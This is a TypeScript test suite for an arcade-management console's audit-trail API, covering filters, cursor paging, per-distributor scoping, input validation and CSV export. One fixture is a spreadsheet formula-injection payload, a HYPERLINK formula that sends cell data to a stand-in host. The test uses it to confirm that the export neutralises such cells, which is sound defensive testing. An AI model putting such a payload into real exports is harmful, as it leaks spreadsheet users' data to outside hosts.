import { Status, type Cents } from '@moneybox/contract';
import { beforeAll, expect, it } from 'vitest';
import { consoleAccount, type ConsoleSession } from '../../testing/console-kit.js';
import { csvCells, formulaCells } from '../../testing/csv-cells.js';
import { describeOnDatabases, type Body } from '../../testing/server.js';
import { createStore } from '../operator/operator.service.js';
import { SEED } from '../audit/audit.js';

const OTHER = 2002;
/** The period of the rows written here (the harness's own rows are of today). */
const PERIOD = { from: '2024-03-01T00:00:00.000Z', to: '2024-04-01T00:00:00.000Z' };
const EVIL = '=HYPERLINK("http://x.example/?"&A1,"open")';

interface Row {
  id: number;
  kid: number | null;
  who: string;
  kind: string;
  target: string;
  before: unknown;
  after: unknown;
}

/**
 * The console's audit trail (`/operator/audit`, `/operator/auditExport`): filters by store, account, kind
 * (or its group) and period, cursor paging newest first by id, the CSV with its formula guard; a
 * distributor's filters never reach another distributor's rows; bad filters are 13 and answer no row.
 */
describeOnDatabases('console audit trail: filters, paging, CSV and scope', (s) => {
  let admin: ConsoleSession;
  let distA: ConsoleSession;
  let distB: ConsoleSession;
  let supportA: ConsoleSession;
  const as = (c: ConsoleSession, body: Body = {}) => ({ UID: c.UID, TOKEN: c.TOKEN, ...body });
  const trail = async (c: ConsoleSession, body: Body = {}) => {
    const r = await s.call('/operator/audit', as(c, { ...PERIOD, ...body }));
    expect(r.status, JSON.stringify(r).slice(0, 300)).toBe(Status.OK);
    return r as unknown as { list: Row[]; next: number | null; limit: number };
  };
  const ids = (rows: Row[]) => rows.map((r) => r.id);

  /** Rows written straight into the trail, oldest first; returns their ids. */
  async function write(rows: { kid: number | null; by: ConsoleSession | 'boss01'; role: string; kind: string; at: string; target?: string; before?: object; after?: object }[]) {
    const out: number[] = [];
    for (const r of rows) {
      const who = r.by === 'boss01' ? { actor_account_id: null, actor_name: 'boss01' } : { actor_account_id: r.by.UID, actor_name: r.by.username };
      await s.handle.db
        .insertInto('audit')
        .values({ store_id: r.kid, at: r.at, ...who, actor_role: r.role, kind: r.kind, target_type: 'store', target_id: r.kid, target_label: r.target ?? '', before_json: r.before ? JSON.stringify(r.before) : null, after_json: r.after ? JSON.stringify(r.after) : null })
        .execute();
      out.push(Number((await s.handle.db.selectFrom('audit').select((eb) => eb.fn.max('id').as('id')).executeTakeFirstOrThrow()).id));
    }
    return out;
  }

  let aCredit = 0, bCredit = 0, bFreeze = 0, bNews = 0, adminHook = 0, evilRow = 0;
  let logins: number[] = [];

  beforeAll(async () => {
    await createStore({ handle: s.handle }, SEED, { id: OTHER, name: 'Other Arcade', timezone: 'UTC', credit: 0 as Cents, compsBudget: 0 as Cents, maxDrawers: 1, maxMachines: 1, limitDay: 31, limitHourly: 0 as Cents, limitDaily: 0 as Cents, limitWeekly: 0 as Cents, drawers: 1 });
    admin = await consoleAccount(s, 'admin');
    distA = await consoleAccount(s, 'distributor', { stores: [1001] });
    distB = await consoleAccount(s, 'distributor', { stores: [OTHER] });
    supportA = await consoleAccount(s, 'support', { parentId: distA.UID });
    const written = await write([
      { kid: 1001, by: distA, role: 'distributor', kind: 'console.credit_give', at: '2024-03-02T10:00:00.000Z', after: { amount: 50 } },
      { kid: OTHER, by: distB, role: 'distributor', kind: 'console.credit_give', at: '2024-03-03T10:00:00.000Z', after: { amount: 70 } },
      { kid: OTHER, by: distB, role: 'distributor', kind: 'console.store_freeze', at: '2024-03-04T10:00:00.000Z', before: { frozen: false }, after: { frozen: true } },
      { kid: null, by: distB, role: 'distributor', kind: 'operator.news_publish', at: '2024-03-05T10:00:00.000Z', target: 'B news' },
      { kid: null, by: admin, role: 'admin', kind: 'console.webhook_add', at: '2024-03-06T10:00:00.000Z' },
      { kid: 1001, by: 'boss01', role: 'boss', kind: 'customer.update', at: '2024-03-07T10:00:00.000Z', target: EVIL, after: { first_name: '@SUM(A1)' } },
    ]);
    [aCredit, bCredit, bFreeze, bNews, adminHook, evilRow] = written as [number, number, number, number, number, number];
    // Seven sign-ins at one instant: the pages must follow the ids, not the time.
    logins = await write(Array.from({ length: 7 }, () => ({ kid: 1001, by: 'boss01' as const, role: 'boss', kind: 'login', at: '2024-03-10T08:00:00.000Z' })));
  });

  it('filters by store, account, kind (or its group) and period, each narrowing the others', async () => {
    const all = [...logins].reverse().concat([evilRow, adminHook, bNews, bFreeze, bCredit, aCredit]);
    expect(ids((await trail(admin)).list)).toEqual(all);
    expect(ids((await trail(admin, { kid: OTHER })).list)).toEqual([bFreeze, bCredit]);
    expect(ids((await trail(admin, { who: distB.username })).list)).toEqual([bNews, bFreeze, bCredit]);
    expect(ids((await trail(admin, { who: ` ${distB.username.toUpperCase()} ` })).list)).toEqual([bNews, bFreeze, bCredit]);
    expect(ids((await trail(admin, { kind: 'console.credit_give' })).list)).toEqual([bCredit, aCredit]);
    expect(ids((await trail(admin, { kind: 'console' })).list)).toEqual([adminHook, bFreeze, bCredit, aCredit]);
    expect(ids((await trail(admin, { kid: OTHER, kind: 'console.store_freeze', who: distB.username })).list)).toEqual([bFreeze]);
    expect(ids((await trail(admin, { from: '2024-03-03T10:00:00.000Z', to: '2024-03-05T10:00:00.000Z' })).list)).toEqual([bFreeze, bCredit]);
    // A period in another zone is the same instants.
    expect(ids((await trail(admin, { from: '2024-03-03T04:00:00-06:00', to: '2024-03-05T04:00:00-06:00' })).list)).toEqual([bFreeze, bCredit]);
    // '' is no filter.
    expect(ids((await trail(admin, { who: '', kind: '' })).list)).toEqual(all);
    expect((await trail(admin, { who: 'nobody000' })).list).toEqual([]);
  });

  it('pages newest first by id with a cursor: every row once, next null on the last page', async () => {
    const seen: number[] = [];
    let before: number | undefined;
    const sizes: number[] = [];
    for (let n = 0; n < 10; n++) {
      const page = await trail(admin, { kind: 'login', limit: 3, ...(before !== undefined && { before_id: before }) });
      expect(page.limit).toBe(3);
      seen.push(...ids(page.list));
      sizes.push(page.list.length);
      if (page.next === null) break;
      expect(page.next).toBe(page.list.at(-1)!.id);
      before = page.next;
    }
    expect(sizes).toEqual([3, 3, 1]);
    expect(seen).toEqual([...logins].reverse());
    // A page that ends exactly on the last row says so.
    expect((await trail(admin, { kind: 'login', limit: 7 })).next).toBeNull();
    expect((await trail(admin, { kind: 'login', limit: 6 })).next).toBe(logins[1]);
    // Without a limit: a page of 200 at most, as before.
    expect((await trail(admin)).limit).toBe(200);
  });

  it("keeps a distributor to its own stores and its own platform rows, whatever it filters by", async () => {
    expect(ids((await trail(distA)).list)).toEqual([...logins].reverse().concat([evilRow, aCredit]));
    // Another distributor's store: refused as a store that does not exist, no row.
    for (const c of [distA, supportA]) {
      for (const path of ['/operator/audit', '/operator/auditExport']) {
        const r = await s.call(path, as(c, { ...PERIOD, kid: OTHER }));
        expect(r.status).toBe(Status.PERMISSION_ERROR);
        expect(r.list).toBeUndefined();
        expect(r.csv).toBeUndefined();
      }
    }
    // Another distributor's name, kinds or period: nothing of theirs (its platform news row included).
    expect((await trail(distA, { who: distB.username })).list).toEqual([]);
    expect((await trail(supportA, { who: distB.username })).list).toEqual([]);
    expect(ids((await trail(distA, { kind: 'console' })).list)).toEqual([aCredit]);
    expect(ids((await trail(distA, { kind: 'operator' })).list)).toEqual([]);
    const csv = await s.call('/operator/auditExport', as(distA, { ...PERIOD, who: distB.username }));
    expect(csv).toMatchObject({ status: Status.OK, rows: 0, truncated: false });
    expect(csvCells(String(csv.csv))).toHaveLength(1);
    // The other distributor reads its own, and nothing of A's.
    expect(ids((await trail(distB)).list)).toEqual([bNews, bFreeze, bCredit]);
    expect((await trail(distB, { who: distA.username })).list).toEqual([]);
  });

  it.each([
    ['an unknown kind', { kind: 'console.nope' }],
    ['a kind group that is a prefix of no group', { kind: 'cons' }],
    ['a period start that is not an instant', { from: 'yesterday' }],
    ['a period without its zone', { from: '2024-03-01T00:00:00' }],
    ['a period end before its start', { from: '2024-03-05T00:00:00.000Z', to: '2024-03-04T00:00:00.000Z' }],
    ['an empty period', { from: '2024-03-05T00:00:00.000Z', to: '2024-03-05T00:00:00.000Z' }],
    ['a page of none', { limit: 0 }],
    ['a page past the maximum', { limit: 201 }],
    ['a cursor that is not an id', { before_id: 'x' }],
    ['a store that is not a kiosk id', { kid: '10a' }],
    ['an account name past 200 characters', { who: 'x'.repeat(201) }],
  ])('refuses %s with 13 and no row', async (_what, body) => {
    for (const path of ['/operator/audit', '/operator/auditExport']) {
      if (path === '/operator/auditExport' && ('limit' in body || 'before_id' in body)) continue;
      const r = await s.call(path, as(admin, body));
      expect(r.status, JSON.stringify(r)).toBe(Status.INPUT_ERROR);
      expect(r.list).toBeUndefined();
      expect(r.csv).toBeUndefined();
    }
  });

  it("exports the filtered trail as CSV, a cell starting with '=' (or '@') neutralised", async () => {
    const r = await s.call('/operator/auditExport', as(admin, PERIOD));
    expect(r).toMatchObject({ status: Status.OK, rows: 13, truncated: false });
    const csv = String(r.csv);
    expect(formulaCells(csv)).toEqual([]);
    const cells = csvCells(csv);
    expect(cells[0]).toEqual(['time', 'store', 'account', 'role', 'kind', 'target', 'before', 'after']);
    const evil = cells.find((c) => c[4] === 'customer.update')!;
    expect(evil.slice(1, 6)).toEqual(['1001', 'boss01', 'boss', 'customer.update', `'${EVIL}`]);
    expect(JSON.parse(evil[7]!)).toEqual({ first_name: '@SUM(A1)' });
    // The same filters as the page: one store's credit gives.
    const one = csvCells(String((await s.call('/operator/auditExport', as(admin, { ...PERIOD, kid: OTHER, kind: 'console.credit_give' }))).csv));
    expect(one.slice(1).map((c) => [c[1], c[2], c[4]])).toEqual([[String(OTHER), distB.username, 'console.credit_give']]);
  });
});
